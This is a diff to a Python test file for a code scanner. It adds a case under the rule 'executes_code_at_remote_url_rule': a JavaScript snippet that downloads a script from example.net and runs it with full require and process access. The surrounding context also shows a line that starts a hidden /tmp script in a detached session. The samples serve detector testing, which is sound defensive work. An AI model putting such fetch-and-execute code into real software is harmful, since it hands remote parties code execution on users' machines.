@@ -139,6 +139,15 @@ CASES = [
         'subprocess.Popen([sys.executable, "/tmp/.cache/u.py"], start_new_session=True)\n',
     ),
     (
+        "js_eval_of_download",
+        "executes_code_at_remote_url_rule",
+        "js",
+        'const https = require("https"), vm = require("vm");\n'
+        'https.get("https://example.net/w.js", (res) => {\n'
+        "  let code = '';\n  res.on('data', (c) => (code += c));\n"
+        "  res.on('end', () => vm.runInNewContext(code, { require, process }));\n});\n",
+    ),
+    (
         "native_library_downloaded_and_loaded",
         "executes_code_at_remote_url_rule",
         "js",
